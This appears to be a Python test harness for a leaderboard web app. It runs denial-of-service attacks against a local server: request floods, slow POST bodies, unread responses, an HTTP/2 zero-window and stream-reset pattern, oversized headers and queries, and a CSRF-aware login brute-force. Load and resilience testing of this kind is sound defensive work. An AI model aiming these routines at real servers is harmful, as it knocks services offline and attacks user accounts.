"""One address with a few sockets that means harm: `python -m tests.faults.attacks NAME PORT SLUG`.

Runs until it is ended. At the lowest priority: an attacker's own machine does the work of sending.
"""

from __future__ import annotations

import os
import re
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from itertools import count

ADDRESS = "127.0.0.2"
SOCKETS = 8


def head(path: str, *, method: str = "GET", headers: str = "") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{headers}\r\n".encode()


class Attacker:
    def __init__(self, port: int, slug: str) -> None:
        self.port, self.slug = port, slug

    def connect(self, *, window: int = 0) -> socket.socket:
        client = socket.socket()
        if window:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        client.settimeout(20)
        client.bind((ADDRESS, 0))
        client.connect(("127.0.0.1", self.port))
        return client

    def several(self, attack: Callable[[int], None], sockets: int = SOCKETS) -> None:
        """The same on each of several threads, again and again."""

        def run(number: int) -> None:
            while True:
                try:
                    attack(number)
                except OSError:
                    time.sleep(0.01)  # dropped: come again

        threads = [threading.Thread(target=run, args=(one,), daemon=True) for one in range(sockets)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def flood(self, *paths: str, headers: str = "", body: bytes = b"", method: str = "GET") -> None:
        """As many requests as are answered, each at another address where `{}` is."""
        if body:
            headers += f"Content-Length: {len(body)}\r\n"
        numbers = count()

        def attack(number: int) -> None:
            with self.connect() as client:
                while True:
                    step = next(numbers)
                    path = paths[step % len(paths)].replace("{}", str(step))
                    client.sendall(head(path, method=method, headers=headers) + body)
                    if not read_answer(client):
                        return

        self.several(attack)

    def read_nothing(self, path: str, sockets: int = 100) -> None:
        """Ask for the same many times on each socket, and never read."""

        def attack(number: int) -> None:
            with self.connect(window=2048) as client:
                request = head(path)
                for _ in range(200):
                    client.sendall(request)
                time.sleep(30)

        self.several(attack, sockets)

    # ---- the attacks -----------------------------------------------------------------------------

    def downloads_dropped(self) -> None:
        path = f"/boards/{self.slug}/seasons/1/?format=csv"

        def attack(number: int) -> None:
            with self.connect() as client:
                client.sendall(head(path))
                time.sleep(0.02)

        self.several(attack)

    def http2_without_a_window(self) -> None:
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        settings = b"\0\0\6\4\0\0\0\0\0" + b"\0\4\0\0\0\0"  # a window of 0

        def attack(number: int) -> None:
            with self.connect() as client:
                client.sendall(preface + settings)
                for stream in range(1, 200, 2):
                    block = b"\x82\x86\x84\x41\x09localhost"
                    client.sendall(bytes([0, 0, len(block), 1, 5, 0, 0, 0, stream]) + block)
                    client.sendall(bytes([0, 0, 4, 3, 0, 0, 0, 0, stream, 0, 0, 0, 8]))  # reset
                client.recv(1000)

        self.several(attack)

    def files_unread(self) -> None:
        self.read_nothing(self.static_file())

    def entries_unread(self) -> None:
        self.read_nothing(f"/api/v1/boards/{self.slug}/entries")

    def documents(self) -> None:
        self.flood("/api/v1/openapi.json", "/api/v1/docs")

    def bodies_without_a_key(self) -> None:
        path = f"/api/v1/boards/{self.slug}/scores/bulk"
        self._slow_bodies(path, "application/json", 16_000_000)

    def forms_that_never_end(self) -> None:
        self._slow_bodies("/accounts/login/", "application/x-www-form-urlencoded", 2_000_000)

    def _slow_bodies(self, path: str, kind: str, length: int) -> None:
        headers = f"Content-Type: {kind}\r\nContent-Length: {length}\r\n"

        def attack(number: int) -> None:
            with self.connect() as client:
                client.sendall(head(path, method="POST", headers=headers))
                for _ in range(length // 20_000 - 1):
                    client.sendall(b"x" * 20_000)
                time.sleep(5)

        self.several(attack, 60)

    def sign_ins(self) -> None:
        kind = "application/x-www-form-urlencoded"

        def attack(number: int) -> None:
            with self.connect() as client:
                client.sendall(head("/accounts/login/"))
                page = read_answer(client)
                cookie = re.search(rb"csrftoken=(\w+)", page)
                token = re.search(rb'csrfmiddlewaretoken" value="(\w+)"', page)
                if not (cookie and token):
                    time.sleep(0.1)
                    return
                body = b"csrfmiddlewaretoken=%s&username=u%d&password=guess" % (
                    token[1],
                    time.monotonic_ns(),
                )
                headers = (
                    f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
                    f"Cookie: csrftoken={cookie[1].decode()}\r\n"
                )
                client.sendall(head("/accounts/login/", method="POST", headers=headers) + body)
                read_answer(client)

        self.several(attack, 30)

    def long_headers(self) -> None:
        self.flood("/", headers=f"X-Long: {'a' * 400_000}\r\n")

    def unknown_addresses(self) -> None:
        self.flood("/nothing/{}", "/api/v1/nothing/{}", f"/api/v1/boards/{self.slug}/no/{{}}")

    def unknown_streams(self) -> None:
        self.flood("/live/boards/zzz/")

    def missing_files(self) -> None:
        self.flood("/static/nothing-{}.css")

    def figures(self) -> None:
        self.flood("/metrics", "/readyz")

    def long_queries(self) -> None:
        self.flood(f"/api/v1/boards/{self.slug}/entries?limit=10&cursor={{}}{'a' * 14_000}")

    def streams_with_own_players(self) -> None:
        def attack(number: int) -> None:
            players = "&".join(f"player=p{number}-{one}" for one in range(100))
            path = f"/api/v1/boards/{self.slug}/live?{players}"
            with self.connect() as client:
                client.sendall(head(path))
                while client.recv(65536):
                    pass

        self.several(attack, 300)

    def countless_parameters(self) -> None:
        many = "&".join(f"a{number}" for number in range(2500))
        self.flood(f"/?{many}", f"/api/v1/boards/{self.slug}/entries?{many}", "/live/home/?" + many)

    def static_file(self) -> str:
        with self.connect() as client:
            client.sendall(head("/accounts/login/"))
            found = re.search(rb'href="(/static/[^"]+\.css)"', read_answer(client))
        assert found is not None
        return found[1].decode()


def attacks() -> Iterator[str]:
    """The names of all attacks."""
    helpers = {"connect", "several", "flood", "read_nothing", "static_file"}
    for name in vars(Attacker):
        if not name.startswith("_") and name not in helpers:
            yield name


def read_answer(client: socket.socket) -> bytes:
    """Head and body; empty when the connection ends with it."""
    answer = b""
    while b"\r\n\r\n" not in answer:
        if not (piece := client.recv(65536)):
            return b""
        answer += piece
    top, _, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: (\d+)", top)
    while len(body) < (int(length[1]) if length else 0):
        if not (piece := client.recv(65536)):
            return b""
        body += piece
    return b"" if b"connection: close" in top.lower() else top + body


if __name__ == "__main__":
    os.nice(19)
    getattr(Attacker(int(sys.argv[2]), sys.argv[3]), sys.argv[1])()
